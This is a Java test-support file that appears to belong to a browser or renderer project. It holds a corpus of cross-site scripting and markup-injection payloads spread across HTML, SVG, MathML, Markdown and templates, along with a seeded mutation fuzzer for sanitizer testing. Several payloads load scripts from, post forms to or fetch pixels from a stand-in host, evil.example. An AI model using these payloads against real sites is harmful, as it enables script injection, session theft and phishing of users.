package dev.deskbell.browser;

import java.util.List;
import java.util.Random;
import java.util.stream.IntStream;

/** What people type who want a browser to run it: HTML, SVG, Markdown, addresses, templates; and mutations of these. */
final class HostileTexts {

    /** Each would set {@code window.ran}, open a dialog, fetch from evil.example or cover the page if it were obeyed. */
    static final List<String> CORPUS = List.of(
            // HTML that runs at once
            "<script>window.ran=1;alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js></sCrIpT>",
            "<script/xss>alert(1)</script/xss>",
            "<<script>alert(1)//<</script>",
            "</title><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>",
            "--><script>alert(1)</script><!--",
            "<img src=x onerror=alert(1)>",
            "<img src=x onerror=\"window.ran=1\">",
            "<img/src=\"x\"/onerror=alert(1)>",
            "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
            "<img src=//evil.example/pixel.png>",
            "<img srcset=\"//evil.example/a 1x\">",
            "<body onload=alert(1)>",
            "<div onmouseover=alert(1) style=\"position:fixed;inset:0\">x</div>",
            "<input autofocus onfocus=alert(1)>",
            "<select autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=alert(1)></video>",
            "<audio src=x onerror=alert(1)>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<iframe src=javascript:alert(1)></iframe>",
            "<iframe srcdoc=\"<script>parent.ran=1</script>\"></iframe>",
            "<object data=javascript:alert(1)></object>",
            "<embed src=javascript:alert(1)>",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<style>@import '//evil.example/x.css';*{display:none}</style>",
            "<form action=//evil.example><button>Sign in</button></form>",
            "<button formaction=javascript:alert(1)>x</button>",
            "<template><script>alert(1)</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<p id=main name=cookie>clobbered</p>",
            // SVG and MathML, and where parsers disagree
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
            "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
            "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
            "<svg><style><img title=\"</style><img src=x onerror=alert(1)>\">",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<math href=javascript:alert(1)>x</math>",
            "<![CDATA[<img src=x onerror=alert(1)>]]>",
            "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
            "<a href=\"javas&#99;ript:alert(1)\">x</a>",
            // Markdown
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](javascript&#58;alert(1))",
            "[x](&#x6A;avascript:alert(1))",
            "[x](java\tscript:alert(1))",
            "[x](<javascript:alert(1)>)",
            "[x]( javascript:alert(1) )",
            "[x](vbscript:msgbox(1))",
            "[x](data:text/html,<script>alert(1)</script>)",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[x](//evil.example \"onmouseover=alert(1)\")",
            "[x](https://evil.example\"onmouseover=alert(1))",
            "[x](file:///etc/passwd)",
            "[x](blob:https://evil.example/1)",
            "![x](https://evil.example/pixel.png)",
            "![x](javascript:alert(1))",
            "![x\" onerror=\"alert(1)](x)",
            "![](data:image/svg+xml,<svg onload=alert(1)>)",
            "[a]: javascript:alert(1)\n\n[a]",
            "[![x](https://evil.example/p.png)](javascript:alert(1))",
            "<javascript:alert(1)>",
            "<https://evil.example/\"onclick=alert(1)>",
            "https://evil.example/<script>alert(1)</script>",
            "www.evil.example/'onclick='alert(1)",
            "# <img src=x onerror=alert(1)>",
            "> <script>alert(1)</script>",
            "1. <svg onload=alert(1)>",
            "```<script>\nalert(1)\n</script>```",
            "```\" onload=\"alert(1)\nx\n```",
            "`<img src=x onerror=alert(1)>`",
            "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
            "~~<b onclick=alert(1)>x</b>~~",
            "a\\<img src=x onerror=alert(1)\\>",
            "*<img src=x onerror=alert(1)*>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;img src=x onerror=alert(1)&#62;",
            // attributes, scripts and templates into which a text might be pasted
            "\" onmouseover=\"alert(1)",
            "' onfocus='alert(1)' autofocus='",
            "\"><img src=x onerror=alert(1)>",
            "');alert(1);//",
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "${alert(1)} #{alert(1)} {{constructor.constructor('alert(1)')()}} <%= alert(1) %>",
            "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
            "{\"__proto__\":{\"dangerouslySetInnerHTML\":{\"__html\":\"<img src=x onerror=alert(1)>\"}}}",
            "＜script＞alert(1)＜/script＞",
            "<scr\u200bipt>alert(1)</scr\u200bipt>");

    private static final List<String> SPLICES = List.of(
            "<", ">", "\"", "'", "`", "&", "&#0;", "/", "\\", "](", "![", "]]>", "<!--", "\n\n", "\t", "\u00a0",
            "\u200d");

    private HostileTexts() {}

    /** Some of the corpus, each changed at a few places: the same for the same seed. */
    static List<String> mutations(long seed, int count) {
        Random random = new Random(seed);
        return IntStream.range(0, count).mapToObj(i -> mutation(random)).toList();
    }

    private static String mutation(Random random) {
        StringBuilder text = new StringBuilder(one(CORPUS, random));
        for (int i = random.nextInt(4); i >= 0; i--) {
            int at = random.nextInt(text.length() + 1);
            int end = Math.min(text.length(), at + random.nextInt(4));
            switch (random.nextInt(5)) {
                case 0 -> text.insert(at, one(SPLICES, random));
                case 1 -> text.replace(at, end, "");
                case 2 -> text.insert(at, text.substring(at, end));
                case 3 -> text.insert(at, one(CORPUS, random));
                default -> text.replace(at, end, swappedCase(text.substring(at, end)));
            }
        }
        return text.toString();
    }

    private static String one(List<String> choices, Random random) {
        return choices.get(random.nextInt(choices.size()));
    }

    private static String swappedCase(String text) {
        return text.chars()
                .map(c -> Character.isUpperCase(c) ? Character.toLowerCase(c) : Character.toUpperCase(c))
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
                .toString();
    }

    /** As much of a text as fits into one line of that length. */
    static String line(String text, int length) {
        String line = text.replaceAll("\\s", " ").strip();
        return line.isEmpty() ? "-" : line.substring(0, Math.min(length, line.length()));
    }
}
